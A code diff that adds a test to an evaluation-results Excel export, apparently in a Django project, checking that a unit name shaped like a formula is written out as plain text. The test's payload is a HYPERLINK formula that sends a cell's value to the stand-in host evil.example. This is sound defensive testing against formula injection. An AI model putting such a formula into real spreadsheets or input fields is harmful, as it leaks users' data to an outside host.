@@ -39,3 +39,20 @@ def test_the_export_shows_not_applicable_scores_as_such(workbook):
     sheet = workbook["考核结果"]
     headers = [cell.value for cell in sheet[2]]
     assert sheet.cell(row=3, column=headers.index("答复质量(20分)") + 1).value == "不涉及"
+
+
+def test_a_unit_name_that_looks_like_a_formula_is_exported_as_text(scenario, personas, client):
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    scenario.other.name = attack
+    scenario.other.save()
+    client.force_login(personas.office)
+
+    response = client.get(reverse("evaluation-export", args=[scenario.session.slug]))
+
+    sheet = load_workbook(io.BytesIO(response.content))["考核结果"]
+    cells = [row[1] for row in sheet.iter_rows(min_row=3, max_col=2)]
+    named = next(cell for cell in cells if cell.value == attack)
+    assert named.data_type == "s" and named.quotePrefix
+    scores = [c for row in sheet.iter_rows(min_row=3, min_col=3) for c in row[:-1]]
+    numbers = [c for c in scores if isinstance(c.value, float)]
+    assert numbers and all(c.data_type == "n" for c in numbers)
